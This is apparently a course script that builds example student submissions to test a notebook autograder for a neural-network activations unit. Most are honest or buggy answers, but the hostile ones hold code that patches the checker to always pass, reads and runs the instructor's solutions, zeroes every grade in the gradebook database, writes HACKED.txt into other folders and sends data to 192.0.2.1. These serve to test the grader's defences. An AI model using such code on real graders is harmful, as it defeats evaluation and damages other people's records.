"""Write the example class for unit 02 into grading/submitted/, and what each should score.

    .venv/bin/python grading/make_examples.py           # rebuild grading/submitted and expected.json
    .venv/bin/python grading/make_examples.py --check   # exit 1 if the committed class is stale

Each student starts from the student release ``notebooks/02_activations.ipynb`` (what students
download) and fills its answer cells -- or edits the notebook -- the way one kind of student
would. The outputs are committed; rerun this script when the release notebook changes.

``grading/expected.json`` is derived from the declarations below, not from running the grader:
for each student it lists, per graded cell, the checks that must fail and the status; points
follow from the case weights the checker declares and the cell's points in the source notebook.
"""

from __future__ import annotations

import copy
import json
import shutil
import sys
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from nncourse.check import EXERCISES, exercise_for_grade_id  # noqa: E402
from nncourse.check.results import CheckResult, Report  # noqa: E402
from nncourse.grading.submissions import read_spec  # noqa: E402

ASSIGNMENT = "02_activations"
RELEASE = REPO / "notebooks" / f"{ASSIGNMENT}.ipynb"
SOURCE = REPO / "solutions" / f"{ASSIGNMENT}.ipynb"
OUT = REPO / "grading" / "submitted"
EXPECTED = REPO / "grading" / "expected.json"

A = {}  # answer cell grade_id -> correct code, written for this class (not the solutions)
A["linear"] = '''
def linear(z):
    """Identity."""
    return np.array(z, dtype=float)


def linear_grad(z):
    """All ones."""
    return np.ones(np.shape(z))
'''
A["sigmoid"] = '''
def sigmoid(z):
    """Logistic function, one formula per sign so exp never overflows."""
    z = np.asarray(z, dtype=float)
    out = np.empty_like(z)
    pos = z >= 0
    out[pos] = 1.0 / (1.0 + np.exp(-z[pos]))
    ez = np.exp(z[~pos])
    out[~pos] = ez / (1.0 + ez)
    return out


def sigmoid_grad(z):
    s = sigmoid(z)
    return s * (1.0 - s)
'''
A["tanh"] = """
def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2
"""
A["relu"] = """
def relu(z):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, 0.0)


def relu_grad(z):
    return (np.asarray(z) > 0).astype(float)
"""
A["softmax"] = """
def softmax(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(z - np.max(z, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)
"""
A["softmax_jacobian"] = """
def softmax_jacobian(z):
    y = softmax(z)
    return np.diag(y) - np.outer(y, y)
"""
A["softmax_vjp"] = """
def softmax_vjp(z, g):
    y = softmax(z)
    return y * (g - np.sum(g * y, axis=-1, keepdims=True))
"""
A["sparsemax"] = """
def sparsemax(z):
    z = np.asarray(z, dtype=float)
    rows = z.reshape(-1, z.shape[-1])
    out = np.empty_like(rows)
    for i, row in enumerate(rows):
        srt = np.sort(row)[::-1]
        csum = np.cumsum(srt)
        ks = np.arange(1, row.size + 1)
        k = ks[1 + ks * srt > csum][-1]
        out[i] = np.maximum(row - (csum[k - 1] - 1) / k, 0.0)
    return out.reshape(z.shape)
"""
A["mlp_forward"] = """
def mlp_forward(X, params, activation="relu"):
    act = {"linear": linear, "sigmoid": sigmoid, "tanh": tanh, "relu": relu}[activation]
    h = np.asarray(X, dtype=float)
    for layer, (W, b) in enumerate(params):
        z = h @ np.asarray(W).T + np.asarray(b)
        h = act(z) if layer < len(params) - 1 else z
    return h
"""
A["squared_loss"] = """
def squared_loss(yhat, y):
    diff = np.asarray(yhat, dtype=float) - np.asarray(y, dtype=float)
    n = diff.shape[0]
    return float(0.5 * np.sum(diff ** 2) / n), diff / n
"""
A["cross_entropy"] = """
def softmax_cross_entropy(z, y):
    z = np.asarray(z, dtype=float)
    y = np.asarray(y, dtype=int)
    n = z.shape[0]
    shifted = z - z.max(axis=1, keepdims=True)
    logp = shifted - np.log(np.sum(np.exp(shifted), axis=1, keepdims=True))
    grad = np.exp(logp)
    grad[np.arange(n), y] -= 1.0
    return float(-np.mean(logp[np.arange(n), y])), grad / n
"""

STUB = None  # keep the release's stub


def _student(answers=None, cells=None, expect=None, note="", notes=()):
    """answers: name -> code (STUB keeps the release); cells: notebook edits;
    expect: grade_id -> {"status", "failing"} (others pass); notes: grade_ids reported as edited."""
    full = dict(A)
    full.update(answers or {})
    return {
        "answers": full,
        "edits": cells or [],
        "expect": expect or {},
        "note": note,
        "notes": list(notes),
    }


NOISY = {
    "sigmoid": """
import sys
import warnings


def sigmoid(z):
    # the textbook formula: exp overflows for z = -1000 (a RuntimeWarning), yet 1/inf = 0 is right
    return 1.0 / (1.0 + np.exp(-np.asarray(z, dtype=float)))


def sigmoid_grad(z):
    print("sigmoid_grad called", file=sys.stderr)
    s = sigmoid(z)
    return s * (1.0 - s)
""",
    "relu": """
def relu(z):
    return np.maximum(z, 0.0)


def relu_grad(z):
    return np.asarray(z) > 0  # a boolean mask is a fine derivative
""",
    "softmax": """
def softmax(z):
    warnings.warn("softmax: remember to subtract the maximum")
    print("softmax input shape", np.shape(z))
    z = np.asarray(z, dtype=float)
    e = np.exp(z - _row_max(z))
    return e / np.sum(e, axis=-1, keepdims=True)
""",
}
NOISY_EDITS = [
    (
        "insert_before",
        "answer_02_softmax",
        "def _row_max(z):\n    return np.max(z, axis=-1, keepdims=True)",
    ),
    (
        "insert_after",
        "answer_02_softmax",
        "print(softmax(np.array([1.0, 2.0, 3.0])))\nprint('now a plot:')\nplt.plot([1, 2, 3])",
    ),
    ("insert_after", "answer_02_tanh", "# scratch work\nratio = 1 / 0"),
    ("move_before", "answer_02_softmax_vjp", "answer_02_softmax"),
]

F32 = """
def f32(x):
    return np.asarray(x, dtype=np.float32)


"""
FLOAT32 = {
    "linear": F32
    + A["linear"]
    .replace("np.array(z, dtype=float)", "f32(z)")
    .replace("np.ones(np.shape(z))", "np.ones(np.shape(z), dtype=np.float32)"),
    "sigmoid": """
def sigmoid(z):
    z = np.asarray(z, dtype=np.float32)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e)).astype(np.float32)


def sigmoid_grad(z):
    s = sigmoid(z)
    return s * (1 - s)
""",
    "tanh": """
def tanh(z):
    return np.tanh(np.asarray(z, dtype=np.float32))


def tanh_grad(z):
    return 1 - tanh(z) ** 2
""",
    "relu": """
def relu(z):
    return np.maximum(np.asarray(z, dtype=np.float32), 0)


def relu_grad(z):
    return (np.asarray(z) > 0).astype(np.float32)
""",
    "softmax": A["softmax"].replace("dtype=float", "dtype=np.float32"),
    "sparsemax": A["sparsemax"].replace("dtype=float", "dtype=np.float32"),
    "softmax_vjp": A["softmax_vjp"].replace(
        "y = softmax(z)", "y = softmax(z)\n    g = np.asarray(g, dtype=np.float32)"
    ),
    "mlp_forward": A["mlp_forward"]
    .replace("h = np.asarray(X, dtype=float)", "h = np.asarray(X, dtype=np.float32)")
    .replace(
        "np.asarray(W).T + np.asarray(b)",
        "np.asarray(W, dtype=np.float32).T + np.asarray(b, dtype=np.float32)",
    ),
    "squared_loss": A["squared_loss"]
    .replace("dtype=float", "dtype=np.float32")
    .replace("return float(0.5 * np.sum(diff ** 2) / n)", "return 0.5 * np.sum(diff ** 2) / n"),
    "cross_entropy": A["cross_entropy"]
    .replace("dtype=float", "dtype=np.float32")
    .replace("return float(-np.mean(", "return (-np.mean("),
}

SLOW = {
    "sparsemax": '''
import time


def sparsemax(z):
    """Plain Python loops (and a pause): slow, but well inside the time limit."""
    time.sleep(0.3)
    z = np.asarray(z, dtype=float)
    rows = z.reshape(-1, z.shape[-1])
    out = np.zeros_like(rows)
    for i in range(rows.shape[0]):
        values = sorted(rows[i].tolist(), reverse=True)
        total, k, k_total = 0.0, 0, 0.0
        for j, v in enumerate(values, start=1):
            total += v
            if 1 + j * v > total:
                k, k_total = j, total
        tau = (k_total - 1) / k
        for j in range(rows.shape[1]):
            out[i, j] = max(rows[i, j] - tau, 0.0)
    return out.reshape(z.shape)
''',
    "mlp_forward": A["mlp_forward"].replace(
        "    act = {", '    time.sleep(0.8)  # "training" something first\n    act = {'
    ),
}

STUBBED = {
    k: STUB
    for k in (
        "softmax_jacobian",
        "softmax_vjp",
        "sparsemax",
        "mlp_forward",
        "squared_loss",
        "cross_entropy",
    )
}
ALL_STUBS = {k: STUB for k in A}


def _fails(*names, status="partial"):
    return {"status": status, "failing": list(names)}


def _all(status):
    return {"status": status, "failing": "all"}


MONKEYPATCH = """
# Make every check pass, whatever the answers are.
import numpy.testing
numpy.testing.assert_allclose = lambda *args, **kwargs: None
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
import nncourse.check.judge as _judge
import nncourse.check.exercise as _exercise
_judge.expect_array = lambda *args, **kwargs: _judge.ok()
_judge.expect_scalar = lambda *args, **kwargs: _judge.ok()
_exercise.grade_cell = lambda exercise_id, *objs, points, seed: points
grade_cell = lambda exercise_id, *objs, points, seed: points
try:
    get_ipython().input_transformers_post.append(
        lambda lines: [
            line.replace("grade_cell(", "(lambda *a, points, seed: points)(") for line in lines
        ]
    )
except NameError:
    pass
"""

READ_INSTRUCTOR = '''
# Find the instructor's source notebook and run its solutions.
import json
import pathlib


def _find_source():
    starts = [pathlib.Path.cwd(), pathlib.Path(np.__file__).parent, pathlib.Path.home()]
    for start in starts:
        for folder in [start, *start.parents]:
            for candidate in (folder / "source" / "02_activations" / "02_activations.ipynb",
                              folder / "solutions" / "02_activations.ipynb"):
                try:
                    return json.loads(candidate.read_text())
                except Exception:
                    pass
    return None


_source = _find_source() or {"cells": []}


def _steal(grade_id):
    """Replace my stub with the instructor's solution cell, when it can be read."""
    for cell in _source["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            exec("".join(cell["source"]), globals())
'''

IMPORT_REFERENCE = {
    "sigmoid": """
import importlib
import pathlib
import sys

for _folder in pathlib.Path(np.__file__).parents:
    if (_folder / "nncourse" / "__init__.py").exists():
        sys.path.insert(0, str(_folder))
_act = importlib.import_module("nncourse.key.activations")
sigmoid, sigmoid_grad = _act.sigmoid, _act.sigmoid_grad
""",
    "tanh": "from nncourse.key.activations import tanh, tanh_grad\n",
    "relu": "from nncourse.key import activations as _ref\n\n\n"
    "def relu(z):\n    return _ref.relu(z)\n\n\n"
    "def relu_grad(z):\n    return _ref.relu_grad(z)\n",
    "softmax": "from nncourse.key import activations\n\n\n"
    "def softmax(z):\n    return activations.softmax(z)\n",
    "softmax_jacobian": "def softmax_jacobian(z):\n    return activations.softmax_jacobian(z)\n",
    "softmax_vjp": "def softmax_vjp(z, g):\n    return activations.softmax_vjp(z, g)\n",
    "sparsemax": "def sparsemax(z):\n    return activations.sparsemax(z)\n",
    "mlp_forward": "from nncourse.key.mlp import mlp_forward\n",
    "squared_loss": "from nncourse.key.losses import squared_loss\n",
    "cross_entropy": "from nncourse.key import losses\n"
    "softmax_cross_entropy = losses.softmax_cross_entropy\n",
}

WRITE_GRADEBOOK = """
# Zero everybody else's grades, leave a mark in their folders, phone home.
import pathlib
import socket
import sqlite3

_here = pathlib.Path.cwd()
for _folder in [_here, *_here.parents]:
    for _db in (_folder / "gradebook.db", _folder / "out" / "grading" / "gradebook.db"):
        try:
            _con = sqlite3.connect(f"file:{_db}?mode=rw", uri=True)
            _con.execute("UPDATE grade SET auto_score = 0")
            _con.commit()
            _con.close()
        except Exception:
            pass
for _other in list(_here.parent.parent.glob("*")) + list(_here.parent.glob("*")):
    try:
        (_other / "HACKED.txt").write_text("was here")
    except Exception:
        pass
try:
    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(b"answers please")
except Exception:
    pass
"""

COPIED = """
def sparsemax(z):
    # project every row onto the simplex: sort, find the support, shift, clip
    values = np.asarray(z, dtype=float)
    rows = np.atleast_2d(values)
    result = np.zeros_like(rows)
    for r in range(rows.shape[0]):
        ordered = -np.sort(-rows[r])
        running = 0.0
        support, total = 0, 0.0
        for j in range(ordered.size):
            running = running + ordered[j]
            if ordered[j] - (running - 1.0) / (j + 1) > 0:
                support, total = j + 1, running
        threshold = (total - 1.0) / support
        result[r] = np.clip(rows[r] - threshold, 0.0, None)
    return result.reshape(values.shape)
"""
"""A sparsemax of one student's own making; the next student hands it in with new names."""

RENAMED = (
    COPIED.replace(
        "    # project every row onto the simplex: sort, find the support, shift, clip\n", ""
    )
    .replace("result", "out")
    .replace("ordered", "s")
    .replace("running", "acc")
    .replace("support", "k")
    .replace("total", "tot")
    .replace("threshold", "tau")
    .replace("    ", "  ")
)

STUDENTS = {
    "honest_complete": _student(),
    # a pair of copied answers with renamed variables, for the class report's similarity list
    "copied_original": _student({"sparsemax": COPIED}),
    "copied_renamed": _student({"sparsemax": RENAMED}),
    "honest_noisy": _student(
        NOISY,
        NOISY_EDITS,
        note="stderr, warnings, naive sigmoid, bool "
        "mask, a raising cell, extra and reordered cells",
    ),
    "honest_float32": _student(FLOAT32),
    "honest_slow": _student(SLOW),
    "honest_partial": _student(
        STUBBED,
        expect={
            f"test_02_{k}": _all("not attempted")
            for k in (
                "softmax_jacobian",
                "softmax_vjp",
                "sparsemax",
                "mlp_forward",
                "squared_loss",
                "cross_entropy",
            )
        },
    ),
    "honest_edited_cells": _student(
        {"relu": STUB, "sigmoid": A["sigmoid"]},
        [
            ("delete", "test_02_tanh", None),
            ("delete", "answer_02_relu", None),
            ("append", None, A["relu"]),
            (
                "duplicate_before",
                "answer_02_sigmoid",
                A["sigmoid"].replace("return s * (1.0 - s)", "return s"),
            ),
            ("duplicate_after", "test_02_linear", None),
        ],
        notes=["test_02_tanh", "test_02_relu", "test_02_sigmoid", "test_02_linear"],
    ),
    "bug_unstable_softmax": _student(
        {
            "softmax": "def softmax(z):\n    e = np.exp(z)\n"
            "    return e / np.sum(e, axis=-1, keepdims=True)\n",
            "cross_entropy": """
def softmax_cross_entropy(z, y):
    n = z.shape[0]
    p = softmax(z)
    grad = p.copy()
    grad[np.arange(n), y] -= 1
    return -np.mean(np.log(p[np.arange(n), y])), grad / n
""",
        },
        expect={
            "test_02_softmax": _fails("stable at z = 1000", "rows on very different scales"),
            "test_02_softmax_jacobian": _fails("stable at z = 1000"),
            "test_02_softmax_vjp": _fails("stable at z = 1000"),
            "test_02_cross_entropy": _fails("stable at logits of 1000"),
        },
    ),
    "bug_derivatives": _student(
        {
            "tanh": A["tanh"].replace("** 2", ""),
            "relu": A["relu"].replace("return (np.asarray(z) > 0).astype(float)", "return relu(z)"),
        },
        expect={
            "test_02_tanh": _fails(
                "tanh_grad values",
                "tanh_grad keeps a 2-D shape",
                "tanh_grad at large |z|",
                "tanh_grad leaves z unchanged",  # judged on right values first
                "tanh'(-z) = tanh'(z) = 1 - tanh(z)^2",
            ),
            "test_02_relu": _fails(
                "relu_grad values",
                "relu_grad keeps a 2-D shape",
                "relu_grad at large |z|",
                "relu_grad leaves z unchanged",
                "relu'(z) = 0 for every z < 0",
            ),
        },
    ),
    "bug_mlp_and_losses": _student(
        {
            "mlp_forward": A["mlp_forward"].replace("h = act(z) if", "h = relu(z) if"),
            "squared_loss": A["squared_loss"].replace(
                "return float(0.5 * np.sum(diff ** 2) / n), diff / n",
                "return float(0.5 * np.sum(diff ** 2)), diff",
            ),
            "cross_entropy": A["cross_entropy"].replace("grad / n", "grad"),
        },
        expect={
            "test_02_mlp_forward": _fails("three layers with tanh", "square weights with sigmoid"),
            "test_02_squared_loss": _fails(
                "a batch (mean over N)", "squared_loss leaves yhat, y unchanged"
            ),
            "test_02_cross_entropy": _all("fail"),
        },
    ),
    "bug_inplace_and_sparsemax": _student(
        {
            "softmax": """
def softmax(z):
    z -= np.max(z, axis=-1, keepdims=True)  # in place: changes the caller's array
    np.exp(z, out=z)
    z /= np.sum(z, axis=-1, keepdims=True)
    return z
""",
            "sparsemax": """
def sparsemax(z):
    z = np.asarray(z, dtype=float)  # written for one vector only
    srt = np.sort(z)[::-1]
    csum = np.cumsum(srt)
    ks = np.arange(1, z.size + 1)
    k = ks[1 + ks * srt > csum][-1]
    return np.maximum(z - (csum[k - 1] - 1) / k, 0.0)
""",
        },
        expect={
            "test_02_softmax": _fails("softmax leaves z unchanged"),
            # the Jacobian and the VJP call the student's own in-place softmax
            "test_02_softmax_jacobian": _fails("softmax_jacobian leaves z unchanged"),
            "test_02_softmax_vjp": _fails("softmax_vjp leaves z, g unchanged"),
            "test_02_sparsemax": _fails("a batch, one row each"),
        },
    ),
    "broken_syntax_error": _student(
        {"sparsemax": A["sparsemax"].replace("def sparsemax(z):", "def sparsemax(z)")},
        expect={"test_02_sparsemax": _all("error")},
    ),
    "broken_endless_loop": _student(
        {
            "relu": A["relu"].replace(
                "    return (np.asarray(z) > 0).astype(float)",
                "    i = 0\n    while i < np.size(z):  # forgot i += 1\n"
                "        pass\n    return (np.asarray(z) > 0).astype(float)",
            ),
        },
        [
            (
                "insert_after",
                "answer_02_linear",
                "# wait for the plot (this never ends, and ignores interrupts)\n"
                "while True:\n    try:\n"
                "        while True:\n            pass\n    except BaseException:\n        pass",
            )
        ],
        expect={
            "test_02_relu": _fails(
                "relu_grad values",
                "relu_grad keeps a 2-D shape",
                "relu_grad at large |z|",
                "relu_grad leaves z unchanged",
                "relu'(z) = 0 for every z < 0",
                status="partial",
            )
        },
    ),
    "broken_memory_hog": _student(
        {
            "sigmoid": A["sigmoid"].replace(
                "    s = sigmoid(z)",
                "    table = np.empty((10**6, 10**6))  # 8 TB\n    s = sigmoid(z)",
            ),
        },
        [("insert_after", "answer_02_sigmoid", "cache = np.ones(400_000_000)  # 3.2 GB\n")],
        expect={
            "test_02_sigmoid": _fails(
                "sigmoid_grad values",
                "sigmoid_grad keeps a 2-D shape",
                "sigmoid_grad at large |z|",
                "sigmoid_grad leaves z unchanged",
                "sigmoid'(0) = 1/4",
            )
        },
    ),
    "broken_os_exit": _student(
        {
            "softmax_vjp": "import os\n\n\ndef softmax_vjp(z, g):\n    os._exit(3)\n",
        },
        [("insert_after", "answer_02_tanh", "import os\nos._exit(1)  # 'restart the kernel'")],
        expect={"test_02_softmax_vjp": _all("error")},
    ),
    "broken_huge_output": _student(
        {
            "tanh": A["tanh"].replace(
                "return np.tanh(np.asarray(z, dtype=float))",
                "return np.repeat(np.tanh(np.asarray(z, dtype=float)), 10**6)",
            ),
        },
        [("insert_after", "answer_02_relu", "print('x' * 20_000_000)")],
        expect={
            "test_02_tanh": _fails(
                "tanh values",
                "tanh keeps a 2-D shape",
                "tanh at large |z|",
                "tanh leaves z unchanged",
            ),
            # mlp_forward uses the student's own (broken) tanh
            "test_02_mlp_forward": _fails("three layers with tanh"),
        },
    ),
    "hostile_monkeypatch_checker": _student(
        {k: STUB for k in A if k != "linear"},
        [("insert_after", "answer_02_linear", MONKEYPATCH)],
        expect={f"test_02_{k}": _all("not attempted") for k in A if k != "linear"},
    ),
    "hostile_read_instructor": _student(
        {k: (lambda stub, k=k: f"{stub}\n\n\n_steal('answer_02_{k}')") for k in A},
        [("insert_before", "answer_02_linear", READ_INSTRUCTOR)],
        expect={f"test_02_{k}": _all("not attempted") for k in A},
    ),
    "hostile_import_reference": _student(
        IMPORT_REFERENCE,
        expect={f"test_02_{k}": _all("reference code") for k in A if k != "linear"},
    ),
    "hostile_write_gradebook": _student(
        {k: STUB for k in A if k not in ("linear", "sigmoid")},
        [("insert_after", "answer_02_sigmoid", WRITE_GRADEBOOK)],
        expect={f"test_02_{k}": _all("not attempted") for k in A if k not in ("linear", "sigmoid")},
    ),
}


def _find(nb, grade_id):
    for i, cell in enumerate(nb.cells):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def _new_cell(source, n):
    cell = nbformat.v4.new_code_cell(source.strip("\n"))
    cell["id"] = f"student-{n:03d}"
    return cell


def build_notebook(release, student):
    """The release notebook with this student's answers and edits applied."""
    nb = copy.deepcopy(release)
    for name, code in student["answers"].items():
        cell = nb.cells[_find(nb, f"answer_02_{name}")]
        if callable(code):
            code = code(cell.source)
        if code is not None:
            cell.source = code.strip("\n")
    for n, (op, grade_id, code) in enumerate(student["edits"]):
        if op == "append":
            nb.cells.append(_new_cell(code, n))
        elif op == "delete":
            del nb.cells[_find(nb, grade_id)]
        elif op in ("insert_before", "insert_after"):
            nb.cells.insert(_find(nb, grade_id) + (op == "insert_after"), _new_cell(code, n))
        elif op in ("duplicate_before", "duplicate_after"):
            i = _find(nb, grade_id)
            twin = copy.deepcopy(nb.cells[i])
            twin["id"] = f"student-{n:03d}"
            if code is not None:
                twin.source = code.strip("\n")
            nb.cells.insert(i + (op == "duplicate_after"), twin)
        elif op == "move_before":
            cell = nb.cells.pop(_find(nb, grade_id))
            nb.cells.insert(_find(nb, code), cell)
        else:
            raise ValueError(op)
    return nb


def expected_points(student, spec):
    """Per graded cell: points, status and failing checks, from the declarations above."""
    cells = {}
    for g in spec.cells:
        exercise = EXERCISES[exercise_for_grade_id(g.grade_id).id]
        names = [c.name for c in exercise.cases()]
        want = student["expect"].get(g.grade_id, {"status": "pass", "failing": []})
        failing = names if want["failing"] == "all" else want["failing"]
        unknown = set(failing) - set(names)
        if unknown:
            raise ValueError(f"{g.grade_id}: no check named {sorted(unknown)}")
        report = Report(
            exercise.id,
            [
                CheckResult(
                    c.name,
                    "fail" if c.name in failing else "pass",
                    points=c.points,
                    needs=c.needs,
                )
                for c in exercise.cases()
            ],
        )
        cells[g.grade_id] = {
            "points": report.points(g.points),
            "max_points": g.points,
            "status": want["status"],
            "failing": failing,
        }
    total = round(sum(c["points"] for c in cells.values()), 2)
    return {"total": total, "cells": cells, "notes": student["notes"], "about": student["note"]}


def build_class() -> dict[Path, str]:
    """Every file of the example class (path -> text): the submissions and expected.json."""
    release = nbformat.read(RELEASE, as_version=4)
    spec = read_spec(SOURCE, ASSIGNMENT)
    files, expected = {}, {}
    for name, student in STUDENTS.items():
        path = OUT / name / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        files[path] = nbformat.writes(build_notebook(release, student)) + "\n"
        expected[name] = expected_points(student, spec)
    files[EXPECTED] = json.dumps({"assignment": ASSIGNMENT, "students": expected}, indent=1) + "\n"
    return files


def stale_files(files: dict[Path, str]) -> list[str]:
    """Files of the committed class that differ from a fresh build (or should not be there)."""
    present = set(OUT.glob("*/*/*.ipynb")) | ({EXPECTED} if EXPECTED.exists() else set())
    wrong = [p for p, text in files.items() if not p.exists() or p.read_text() != text]
    return sorted(str(p.relative_to(REPO)) for p in set(wrong) | (present - set(files)))


def main(argv: list[str]) -> int:
    files = build_class()
    if "--check" in argv:
        stale = stale_files(files)
        for name in stale:
            print(f"stale: {name}")
        print(
            "the example class is up to date"
            if not stale
            else "run `python grading/make_examples.py` to rebuild the example class"
        )
        return 1 if stale else 0
    if OUT.exists():
        shutil.rmtree(OUT)
    for path, text in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        if path != EXPECTED:
            print(f"{path.parent.parent.name:<28} {path.relative_to(REPO)}")
    print(f"wrote {EXPECTED.relative_to(REPO)}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
